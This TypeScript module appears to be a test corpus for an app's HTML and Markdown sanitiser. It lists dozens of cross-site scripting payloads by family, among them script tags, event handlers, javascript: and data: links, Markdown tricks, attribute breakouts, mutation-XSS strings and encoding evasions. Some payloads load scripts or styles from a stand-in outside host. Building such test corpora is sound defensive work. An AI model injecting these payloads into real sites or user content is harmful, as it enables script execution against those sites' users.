// Strings that have run where they should not: our own collection, by the way they go about it. Each
// would set `window.ran`, show a dialog, or load something, if it were taken for more than text.

export type Vector = { family: string; text: string; /** Means nothing in Markdown: it shows as it was typed. */ plain: boolean };

const RUN = "window.ran=1";

const families: Record<string, string[]> = {
  script: [
    `<script>${RUN}</script>`,
    `<SCRIPT>${RUN}</SCRIPT>`,
    `<script src=//ailleurs.example/x.js></script>`,
    `<script type=module>${RUN}</script>`,
    `<script\n>${RUN}</script\n>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `</script><script>${RUN}</script>`,
    `<script nonce="">${RUN}</script>`,
  ],
  handler: [
    `<img src=x onerror=${RUN}>`,
    `<img src=x onerror="${RUN}"//`,
    `<img/src=x/onerror=${RUN}>`,
    `<body onload=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<details open ontoggle=${RUN}>x</details>`,
    `<video><source onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}>`,
    `<select autofocus onfocus=${RUN}><option>x</select>`,
    `<div onpointerover=${RUN} style=position:fixed;inset:0>x</div>`,
    `<b popover id=p onbeforetoggle=${RUN}>x</b><button popovertarget=p>y</button>`,
    `<marquee onstart=${RUN}>x</marquee>`,
  ],
  scheme: [
    `<a href="javascript:${RUN}">x</a>`,
    `<a href="java\tscript:${RUN}">x</a>`,
    `<a href=" javascript:${RUN}">x</a>`,
    `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
    `<a href="vbscript:${RUN}">x</a>`,
    `<form action="javascript:${RUN}"><button>x</button></form>`,
    `<button formaction="javascript:${RUN}">x</button>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="data:image/svg+xml,<svg onload=${RUN}>">`,
    `<base href="//ailleurs.example/">`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<link rel=stylesheet href=//ailleurs.example/x.css>`,
  ],
  markdown: [
    `[x](javascript:${RUN})`,
    `[x](JaVaScRiPt:${RUN})`,
    `[x](java&#115;cript:${RUN})`,
    `[x](<javascript:${RUN}>)`,
    `[x](javascript&colon;${RUN})`,
    `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `[x][y]\n\n[y]: javascript:${RUN}`,
    `<javascript:${RUN}>`,
    `![x](javascript:${RUN})`,
    `![x](https://ailleurs.example/pixel.png "t\" onload=${RUN}")`,
    `[![x](https://ailleurs.example/a.png)](javascript:${RUN})`,
    `[x](https://exemple.fr "\" onmouseover=\"${RUN}")`,
    `https://exemple.fr/"onmouseover="${RUN}`,
    `https://exemple.fr/<script>${RUN}</script>`,
    "```<img src=x onerror=window.ran=1>\n</code></pre><script>window.ran=1</script>\n```",
    "`</code><script>window.ran=1</script>`",
    `# <img src=x onerror=${RUN}>`,
    `> <svg onload=${RUN}>`,
    `- <script>${RUN}</script>`,
    `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
    `<https://exemple.fr/" onclick="${RUN}>`,
  ],
  attribute: [
    `" autofocus onfocus=${RUN} x="`,
    `' autofocus onfocus=${RUN} x='`,
    `"><script>${RUN}</script>`,
    `'><img src=x onerror=${RUN}>`,
    `\`><img src=x onerror=${RUN}>`,
    `" style="background:url(//ailleurs.example)" x="`,
    `x" onmouseover="${RUN}`,
    `&quot;&gt;&lt;script&gt;${RUN}&lt;/script&gt;`,
  ],
  leaving: [
    `</textarea><script>${RUN}</script>`,
    `</title><script>${RUN}</script>`,
    `</style><script>${RUN}</script>`,
    `</noscript><img src=x onerror=${RUN}>`,
    `</p></div></main></body></html><script>${RUN}</script>`,
    `--><script>${RUN}</script>`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<![CDATA[><img src=x onerror=${RUN}>]]>`,
    `</option></select><img src=x onerror=${RUN}>`,
    `<template><script>${RUN}</script></template>`,
  ],
  foreign: [
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<math href="javascript:${RUN}">x</math>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  ],
  style: [
    `<style>*{display:none}</style>`,
    `<style>@import "//ailleurs.example/x.css";</style>`,
    `<p style="position:fixed;inset:0;background:red">x</p>`,
    `<div class="notice" id="toasts">x</div>`,
  ],
  clobber: [
    `<form id=preauWake><input name=attributes></form>`,
    `<a id=preauWake href=x>x</a>`,
    `<img name=body><img name=querySelector>`,
    `<leptos-island data-component="Yard_1"><script>${RUN}</script></leptos-island>`,
  ],
  template: [
    `{{constructor.constructor('${RUN}')()}}`,
    `\${${RUN}}`,
    `<%= ${RUN} %>`,
    `#{${RUN}}`,
    `';${RUN};//`,
    `\\';${RUN};//`,
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  ],
  encoding: [
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&#60;script&#62;${RUN}&#60;/script&#62;`,
    `%3Cscript%3E${RUN}%3C/script%3E`,
    `＜script＞${RUN}＜/script＞`,
    `<\u200bscript>${RUN}</script>`,
    `\u202e>tpircs<${RUN}\u202c`,
    `\ufeff<script>${RUN}</script>`,
    `<img src=x onerror\u00a0=${RUN}>`,
  ],
  ours: [
    `@[<img src=x onerror=${RUN}>](person:01ARZ3NDEKTSV4RRFFQ69G5FAV)`,
    `@[x](person:javascript:${RUN})`,
    `@[x](community:"><script>${RUN}</script>)`,
    `#<script>${RUN}</script>`,
    `#x"onmouseover="${RUN}`,
    `@"><img src=x onerror=${RUN}>`,
  ],
};

const MEANS_NOTHING = new Set(["script", "handler", "style", "clobber", "foreign"]);

export const vectors: Vector[] = Object.entries(families).flatMap(([family, texts]) =>
  texts.map((text) => ({ family, text, plain: MEANS_NOTHING.has(family) && !/[\n*_`&\\#]/.test(text) && !text.includes("//") })));

/** A text of one line as the house keeps it: without what hides or reorders other characters. */
export function kept(text: string): string {
  return text.replace(/[\u00ad\u034f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff]/g, "").replace(/\s+/g, " ").trim();
}

/** The whole corpus in texts of at most `most` characters, as many vectors in each as fit; on one line unless told. */
export function packs(most: number, oneLine = true): string[] {
  const found: string[] = [];
  let pack = "";
  for (const { text } of vectors) {
    const piece = oneLine ? kept(text) : text;
    if (piece === "" || piece.length > most) continue;
    if (pack !== "" && pack.length + 1 + piece.length > most) {
      found.push(pack);
      pack = "";
    }
    pack = pack === "" ? piece : `${pack}${oneLine ? " " : "\n"}${piece}`;
  }
  return pack === "" ? found : [...found, pack];
}
